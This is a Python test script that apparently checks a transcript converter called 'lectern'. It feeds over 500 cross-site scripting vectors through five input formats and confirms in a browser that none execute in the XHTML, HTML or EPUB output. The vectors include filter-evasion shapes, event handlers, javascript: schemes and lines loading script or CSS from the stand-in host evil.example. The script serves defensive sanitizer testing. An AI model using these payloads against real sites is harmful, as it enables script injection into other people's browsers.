"""A script from a text never runs: more than 500 vectors through five kinds of input to XHTML, the read-along page and EPUB, opened in a browser."""

import html
import os
import zipfile

from pages import edited

TAGS = ('img', 'svg', 'body', 'iframe', 'video', 'audio', 'input', 'details', 'object', 'embed', 'math', 'marquee', 'form', 'a', 'link', 'style', 'base',
        'meta', 'template', 'noscript')
EVENTS = ('onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onbegin')
SCHEMES = ('javascript:', 'JaVaScRiPt:', 'java\tscript:', '\x01javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'data:text/html,', ' javascript:',
           'javascript\u003a')
SHAPES = ('<script>{x}</script>', '</script><script>{x}</script>', '</title><script>{x}</script>', '--><script>{x}</script>', ']]><script>{x}</script>',
          '"><script>{x}</script>', "'><script>{x}</script>", '<<script>{x}//<</script>', '<scr<script>ipt>{x}</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
          '<script/x>{x}</script>', '<script\n>{x}</script>', '&lt;script&gt;{x}&lt;/script&gt;', '&#60;script&#62;{x}&#60;/script&#62;', '\\u003cscript>{x}</script>',
          '<!--<script>{x}//--></script>', '<plaintext><script>{x}</script>', '<noscript><p title="</noscript><img src=x onerror={x}>">',
          '<svg><script>{x}</script></svg>', '<math><mtext><script>{x}</script></mtext></math>', '<style>@import "//evil.example/x.css";</style>',
          '<textarea><script>{x}</script></textarea>', '<xmp><script>{x}</script></xmp>', '" autofocus onfocus={x} x="', "' onmouseover={x} '", '${{{x}}}', '{{{{{x}}}}}',
          '`+{x}+`', '";{x};//', "';{x};//")


def vectors():
    """More than 500 ways in which a text may try to become a program; {x} calls what the judge looks for."""
    call = 'alert(1)'
    found = [shape.format(x=call) for shape in SHAPES]
    found += [f'<{tag} src=x {event}={call}>' for tag in TAGS for event in EVENTS]
    found += [f'<{tag}/{event}="{call}"/src=x>' for tag in TAGS for event in EVENTS[:4]]
    found += [f'"><{tag} {event}={call} ' for tag in TAGS for event in EVENTS]
    found += [f'<{tag} href="{scheme}{call}">x</{tag}>' for tag in ('a', 'iframe', 'form', 'object') for scheme in SCHEMES]
    found += [f'[a link]({scheme}{call})' for scheme in SCHEMES] + [f'![an image]({scheme}{call})' for scheme in SCHEMES]
    found += [f'[x]: {scheme}{call} "t"' for scheme in SCHEMES] + [f'<{scheme}{call}>' for scheme in SCHEMES]
    found += [f'[one](https://a.example/"{event}={call} x=")' for event in EVENTS] + [f'{entity}script{entity[:-1]}>{call}' for entity in ('&lt;', '&#x3c;', '&#0060;')]
    return found


def hostile_sources(kit):
    """One transcript of each kind, with all vectors in it: as text, as a title, as a speaker, in attributes."""
    all_vectors = vectors()
    words = '\n\n'.join(f'Friends, this is {number}: {vector}' for number, vector in enumerate(all_vectors))
    escaped = ''.join(f'<p title="{html.escape(v)}">Friends: {html.escape(v)}</p><p>Friends: {v}</p>\n' for v in all_vectors)
    body = ''.join(f'<p><s>Friends: {html.escape(v)}</s> <s><ref href="{html.escape(v)}">this</ref></s></p>\n' for v in all_vectors
                   if not any(ord(c) < 32 for c in v))
    sources = {
        'hostile.txt': words, 'hostile.md': f'# {SHAPES[1].format(x="alert(1)")}\n\n**{SHAPES[5].format(x="alert(1)")}**\n\n' + words,
        'hostile.html': f'<!DOCTYPE html><html lang="en"><head><title>{SHAPES[2].format(x="alert(1)")}</title></head><body>{escaped}</body></html>',
        'hostile.srt': ''.join(f'{n + 1}\n00:{n // 60:02}:{n % 60:02},000 --> 00:{n // 60:02}:{n % 60:02},900\nFriends: {v}\n\n' for n, v in enumerate(all_vectors)),
        'hostile.xml': '<?xml version="1.0" encoding="UTF-8"?>\n<speech xmlns="urn:lectern:speech:1" xml:lang="en" version="1"><meta><title>&lt;/title>'
                       f'&lt;script>alert(1)&lt;/script></title></meta><body><section kind="body">{body}</section></body></speech>\n',
    }
    return {name: text.encode('utf-8', 'surrogatepass') for name, text in sources.items()}


def check(kit):
    kit.need('chromium', 'node')
    pages, folder = [], os.path.dirname(kit.temp('x'))
    for name, data in hostile_sources(kit).items():
        source = os.path.join(folder, name)
        with open(source, 'wb') as handle:
            handle.write(data)
        outputs = [os.path.join(folder, f'{name}.{kind}') for kind in ('xhtml', 'html', 'epub')]
        done = kit.run([kit.lectern, 'convert', source, '--quiet', '--rate', '450', *(part for out in outputs for part in ('-o', out))])
        if done.returncode:
            kit.fault(f'{name}: lectern ended with {done.returncode}: {done.stderr.decode(errors="replace")[:300]}')
            continue
        with zipfile.ZipFile(outputs[2]) as book:
            for entry in book.namelist():
                if entry.endswith('.xhtml'):
                    pages.append(f'{outputs[2]}.{os.path.basename(entry)}')
                    with open(pages[-1], 'wb') as handle:
                        handle.write(book.read(entry))
        pages += outputs[:2]
    print(f'  {len(vectors())} vectors, {len(pages)} pages')
    if len(vectors()) < 500:
        kit.fault(f'only {len(vectors())} vectors')
    kit.judged('inert', [], pages)
    page = kit.sample('un-dsg-2013-07-15.md').path('xhtml')
    kit.must_reject('inert', [], {
        edited(kit, 'script.xhtml', page, '</main>', '<script>alert(1)</script></main>'): 'script',
        edited(kit, 'handler.xhtml', page, '<h1', '<h1 onclick="alert(1)"'): 'onclick',
        edited(kit, 'scheme.xhtml', page, '</main>', '<p><a href="javascript:alert(1)">x</a></p></main>'): 'javascript:',
        edited(kit, 'second-program.html', kit.sample('short.txt').path('html'), '</main>', '<script>alert(1)</script></main>'): 'dialog',
        edited(kit, 'fetches.xhtml', page, '</main>', '<p><img alt="x" src="http://evil.example/x.png"/></p></main>'): 'network',
    })
